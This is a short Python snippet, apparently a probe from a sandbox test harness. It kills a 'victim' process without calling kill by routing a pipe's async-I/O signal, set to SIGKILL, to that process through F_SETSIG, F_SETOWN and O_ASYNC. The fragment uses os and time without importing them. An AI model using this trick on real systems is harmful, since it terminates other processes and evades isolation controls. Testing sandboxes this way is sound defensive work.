"""SIGKILL without any kill: aim the signal for "this pipe has input" at another process (F_SETOWN, F_SETSIG)."""

import fcntl
import signal


def aim():
    reading, writing = os.pipe()
    fcntl.fcntl(reading, 10, int(signal.SIGKILL))  # F_SETSIG
    fcntl.fcntl(reading, 8, P["victim"])  # F_SETOWN
    fcntl.fcntl(reading, fcntl.F_SETFL, fcntl.fcntl(reading, fcntl.F_GETFL) | 0o20000)  # O_ASYNC
    os.write(writing, b"x")


attempt("a signal by input", aim)
time.sleep(0.2)
